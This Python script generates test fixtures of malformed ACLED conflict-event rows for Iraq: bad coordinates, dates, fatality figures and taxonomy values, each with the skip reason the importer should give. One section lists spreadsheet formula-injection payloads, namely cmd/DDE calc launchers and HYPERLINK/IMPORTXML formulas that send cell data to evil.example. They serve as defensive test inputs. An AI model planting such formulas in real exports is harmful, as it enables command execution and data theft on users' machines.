"""Writes rows.json, the bad-row cases (run from anywhere: python3 tests/data/bad/make_rows.py).

Each case replaces cells of a good ACLED row; ``expect`` is the text its skip reason must contain
(None: the row imports); ``needs_zones``: only a store with zones (real borders) can tell.
"""
import json
import os

cases = []
def add(what, row, expect, needs_zones=False):
    cases.append({"id": f"r{len(cases)+1:03d}", "what": what, "row": row, "expect": expect,
                  **({"needs_zones": True} if needs_zones else {})})
SWAPPED = "latitude and longitude look swapped"
towns = [("Kirkuk", 35.4681, 44.3922), ("Khanaqin", 34.3476, 45.3916), ("Sinjar", 36.3209, 41.8754),
         ("Tuz Khurmatu", 34.8847, 44.6331), ("Makhmour", 35.7755, 43.5797), ("Mosul", 36.335, 43.1189),
         ("Baghdad", 33.3406, 44.4009), ("Tikrit", 34.6067, 43.6786), ("Erbil", 36.1912, 44.0092),
         ("Baqubah", 33.7466, 44.6437)]
for name, lat, lon in towns:
    add(f"swapped lat/lon ({name})", {"latitude": str(lon), "longitude": str(lat)}, SWAPPED)
outside = [("Damascus", 33.5138, 36.2765), ("Tehran", 35.6892, 51.389), ("Riyadh", 24.7136, 46.6753),
           ("Ankara", 39.9334, 32.8597), ("Amman", 31.9454, 35.9284), ("Beirut", 33.8938, 35.5018),
           ("Aleppo", 36.2021, 37.1343), ("Van", 38.4891, 43.4089),
           ("London", 51.5072, -0.1276), ("New York", 40.7128, -74.006), ("Sydney", -33.8688, 151.2093),
           ("Ahvaz", 31.3183, 48.6706), ("Diyarbakir", 37.9144, 40.2306)]
for name, lat, lon in outside:
    add(f"point outside Iraq ({name})", {"latitude": str(lat), "longitude": str(lon)}, "outside Iraq")
inside_bbox_not_iraq = [("Kuwait City", 29.3759, 47.9774), ("Kermanshah (Iran)", 34.3142, 47.065),
                        ("Ilam (Iran)", 33.6374, 46.4227), ("Abu Kamal (Syria)", 34.4506, 40.9186),
                        ("Rafha (Saudi Arabia)", 29.6266, 43.4929),
                        ("Sanandaj (Iran)", 35.3219, 46.9862), ("Arar (Saudi Arabia)", 30.9753, 41.0381),
                        ("Qamishli (Syria)", 37.0522, 41.2251), ("Hakkari (Turkey)", 37.5744, 43.7408),
                        ("Mehran (Iran)", 33.1222, 46.1646), ("Deir ez-Zor (Syria)", 35.3359, 40.1408)]
for name, lat, lon in inside_bbox_not_iraq:
    add(f"point outside Iraq, inside its bounding box ({name})", {"latitude": str(lat), "longitude": str(lon)},
        "outside Iraq", needs_zones=True)
sea = [("Gulf off Al-Faw", 29.75, 48.62), ("Khor Abdullah", 29.85, 48.35), ("Gulf south of Bubiyan", 29.4, 48.45)]
for name, lat, lon in sea:
    add(f"point in the sea ({name})", {"latitude": str(lat), "longitude": str(lon)}, "outside Iraq", needs_zones=True)
for name, lat, lon in [("Gulf of Guinea", 1.5, 2.0), ("Mediterranean", 34.0, 33.0), ("Indian Ocean", -10.0, 70.0)]:
    add(f"point in the sea ({name})", {"latitude": str(lat), "longitude": str(lon)}, "outside Iraq")
add("(0, 0)", {"latitude": "0", "longitude": "0"}, "0, 0")
add("(0.0, 0.0)", {"latitude": "0.0", "longitude": "0.0"}, "0, 0")
add("(0, 0) with signs", {"latitude": "-0", "longitude": "+0"}, "0, 0")
for lat, lon, exp in [("95", "44", "out of range"), ("35", "200", "out of range"), ("-91", "44", "out of range"),
                      ("35", "-181", "out of range"), ("9999", "9999", "out of range")]:
    add(f"coordinates out of range ({lat}, {lon})", {"latitude": lat, "longitude": lon}, exp)
for value, exp in [("nan", "not a finite number"), ("NaN", "not a finite number"), ("inf", "not a finite number"),
                   ("-inf", "not a finite number"), ("Infinity", "not a finite number"), ("1e400", "not a finite number"),
                   ("abc", "not a number"), ("N35.4", "not a number"), ("35°28'", "not a number"), ("", "latitude is empty"),
                   ("  ", "latitude is empty"), ("=35.4", "not a number"), ("35.4.1", "not a number"), ("0x23", "not a number")]:
    add(f"bad latitude {value!r}", {"latitude": value}, exp)
for value, exp in [("nan", "not a finite number"), ("-Infinity", "not a finite number"), ("", "longitude is empty"),
                   ("E44", "not a number"), ("44 E", "not a number"), ("+44.3.9", "not a number")]:
    add(f"bad longitude {value!r}", {"longitude": value}, exp)
# dates
for value, exp in [("2099-01-01", "in the future"), ("2999-12-31", "in the future"), ("9999-12-31", "in the future"),
                   ("31 December 2099", "in the future"), ("2020-02-30", "not a real calendar date"),
                   ("2021-02-29", "not a real calendar date"), ("2021-13-01", "not a real calendar date"),
                   ("2020-00-10", "not a real calendar date"), ("2020-06-31", "not a real calendar date"),
                   ("2020-06-00", "not a real calendar date"), ("31/04/2020", "not a real calendar date"),
                   ("32 June 2020", "not a real calendar date"), ("30 February 2020", "not a real calendar date"),
                   ("1899-12-31", "before 1900"), ("0001-01-01", "before 1900"), ("1000-06-14", "before 1900"),
                   ("yesterday", "not a date"), ("2020/06/14", None), ("2020/06-14", "not a date"), ("14.06.2020", None), ("03.04.2020", "cannot be told apart"), ("13-06-2020", None),
                   ("June 2020", "not a date"), ("2020", "not a date"), ("14 Juin 2020", "not a date"),
                   ("١٤/٠٦/٢٠٢٠", None), ("=TODAY()", "not a date"), ("", "event_date is empty"),
                   ("20200614", "not a date"), ("2020-6-14T25:99", "not a date"),
                   ("03/04/2020", "day and month cannot be told apart"), ("43995", "not a date but a number")]:
    add(f"event_date {value!r}", {"event_date": value}, exp)
# dates as older ACLED exports, Excel and pandas write them (plugin/domain/dates.py)
for value, year, exp in [("9-May-20", "2020", None), ("31-Dec-20", "2020", None), ("09-May-2020", "2020", None),
                         ("21 March 2020", "2020", None), ("2020-06-13T00:00:00", "2020", None),
                         ("2020-06-13 00:00:00.000", "2020", None), ("9-May-20", "", "two-digit year"),
                         ("9-May-20", "2019", "does not agree with the row's year 2019"),
                         ("9-May-20", "MMXX", "is not a year"), ("05/05/2020", "2020", None)]:
    add(f"event_date {value!r} with year {year!r}", {"event_date": value, "year": year}, exp)
# figures
for value, exp in [("-1", "negative"), ("-100", "negative"), ("-0.5", "not a whole number"), ("2.5", "not a whole number"),
                   ("0.1", "not a whole number"), ("7.000001", "not a whole number"), ("10001", "not a plausible figure"),
                   ("1000000", "not a plausible figure"), ("1e9", "not a plausible figure"),
                   ("99999999999999999999", "not a plausible figure"), ("nan", "not a finite number"),
                   ("NaN", "not a finite number"), ("inf", "not a finite number"), ("-inf", "not a finite number"),
                   ("many", "not a number"), ("seven", "not a number"), ("7 killed", "not a number"),
                   ("٧", None), ("=1+1", "not a number"), ("+7", None), ("1,000", None), ("7.0", None),
                   ("1e400", "not a finite number"), ("0x10", "not a number"), ("--1", "not a number"), ("12,5", "not a whole number"), ("1,00", "not a whole number"), ("1,0000", "not a whole number"), (",7", "not a whole number"), ("10,000", None), ("10,001", "not a plausible figure")]:
    add(f"fatalities {value!r}", {"fatalities": value}, exp)
# taxonomy
for value, exp in [("Massacre", "Unknown event type"), ("Terrorism", "Unknown event type"), ("Explosion", "Unknown event type"),
                   ("Battle", "Unknown event type"), ("Battles/Clashes", "Unknown event type"), ("Remote violence", None),
                   ("اشتباكات", "Unknown event type"), ("=cmd|' /C calc'!A0", "Unknown event type"), ("", "event_type is empty"),
                   ("NULL", "Unknown event type"), ("Battles\u200b", "Unknown event type")]:
    add(f"event_type {value!r}", {"event_type": value, "sub_event_type": ""}, exp)
# ACLED's event types before 2019 (resources/acled_event_types_2019.json)
for changes, exp in [({"event_type": "Battle-No change of territory"}, None),
                     ({"event_type": "Battle - Government regains territory"}, None),
                     ({"event_type": "battle-non-state actor overtakes territory"}, None),
                     ({"event_type": "Strategic development"}, None), ({"event_type": "Headquarters or base established"}, None),
                     ({"event_type": "Non-violent transfer of territory"}, None),
                     ({"event_type": "Riots/Protests", "inter1": "6", "inter2": "1"}, None),
                     ({"event_type": "Riots/Protests", "inter1": "5", "inter2": "0"}, None),
                     ({"event_type": "Riots/Protests", "inter1": "3", "inter2": "7"}, "neither inter1 nor inter2 is 5 (Rioters) or 6 (Protesters)"),
                     ({"event_type": "Riots/Protests", "inter1": "", "inter2": ""}, "neither inter1 nor inter2 is 5"),
                     ({"event_type": "Remote violence", "sub_event_type": "Armed clash"}, "is not a kind of")]:
    add(f"old event type {changes}", dict({"sub_event_type": ""}, **changes), exp)
# one odd cell in a numeric column: that row is skipped with its field, never Python's own words
ODD = {"superscript two": "\u00b2", "circled one": "\u2460", "5000 digits": "9" * 5000, "2**63": str(2 ** 63),
       "NaN": "NaN", "inf": "inf", "1e400": "1e400", "negative": "-3"}
for name in ("fatalities", "time_precision", "geo_precision", "inter1", "inter2", "latitude", "longitude"):
    for what, value in ODD.items():
        expect = name
        if name in ("latitude", "longitude") and what == "negative":
            expect = "outside Iraq"  # a real coordinate, in the southern or western hemisphere
        elif name in ("latitude", "longitude") and what == "2**63":
            expect = "out of range"
        add(f"{name}: {what}", {name: value}, expect)
for et, sub in [("Protests", "Armed clash"), ("Battles", "Attack"), ("Riots", "Air/drone strike"),
                ("Violence against civilians", "Peaceful protest"), ("Battles", "Car bomb")]:
    add(f"sub_event_type {sub!r} under {et!r}", {"event_type": et, "sub_event_type": sub}, "is not a kind of")
for value in ("Terrorism", "War", "Political violent"):
    add(f"disorder_type {value!r}", {"disorder_type": value}, "Unknown disorder type")
# codes
for name, value, exp in [("time_precision", "0", "not a known code"), ("time_precision", "4", "not a known code"),
                         ("time_precision", "x", "not a number"), ("time_precision", "-1", "negative"),
                         ("time_precision", "1.5", "not a whole number"), ("geo_precision", "5", "not a known code"),
                         ("geo_precision", "nan", "not a finite number"), ("geo_precision", "0", "not a known code"),
                         ("inter1", "9", "not an ACLED actor type code"), ("inter1", "99", "not an ACLED actor type code"),
                         ("inter2", "12", "not an ACLED actor type code"), ("civilian_targeting", "maybe", "not yes/no"),
                         ("civilian_targeting", "=TRUE()", "not yes/no")]:
    add(f"{name} {value!r}", {name: value}, exp)
# long cells
for name in ("notes", "actor1", "location", "source", "tags", "admin2"):
    add(f"{name}: 30,000 characters", {name: {"repeat": "x", "times": 30000}}, "not a plausible value")
add("notes: 10 MB", {"notes": {"repeat": "ملاحظة ", "times": 10 * 1024 * 1024 // 14}}, "not a plausible value")
# formula injection: text is data; kept verbatim (the CSV export neutralises it)
for name, value in [("notes", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"), ("actor1", "=cmd|' /C calc'!A0"),
                    ("actor2", "+SUM(1+1)*cmd|' /C calc'!A0"), ("location", "@SUM(1+1)"), ("source", "-2+3+cmd|' /C calc'!A0"),
                    ("notes", "\t=1+1"), ("admin1", "=1+1"), ("tags", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"),
                    ("assoc_actor_1", "=DDE(\"cmd\";\"/C calc\";\"A0\")"), ("event_id_cnty", "=1+1")]:
    add(f"formula in {name}: kept as text", {name: value}, None)
# unusual but fine
for name, value in [("notes", "Line one\nline two, with \"quotes\""), ("actor1", "  Islamic State (Iraq)  "),
                     ("event_date", "14 June 2020"),
                    ("event_date", "14-June-2020"), ("event_date", "June 14, 2020"), ("event_date", "14/06/2020"),
                    ("latitude", "35,4681"), ("notes", "🙂 emoji and \u202bRTL mark"), ("notes", "NUL\x00byte"),
                    ("fatalities", ""), ("civilian_targeting", "Civilian targeting"), ("inter1", "Political militias"),
                    ("notes", "ملاحظة بالعربية مع أرقام ١٢٣")]:
    add(f"{name} {value!r}: imported", {name: value}, None)
for value in ("battles", "BATTLES", " Battles "):
    add(f"event_type {value!r}: the taxonomy's spelling", {"event_type": value, "sub_event_type": "armed clash"}, None)
json.dump({"about": "Bad ACLED rows: each case replaces cells of a good row (tests/data/bad/README.md).",
           "cases": cases}, open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "rows.json"), "w", encoding="utf-8"), ensure_ascii=False, indent=0)
print(len(cases))
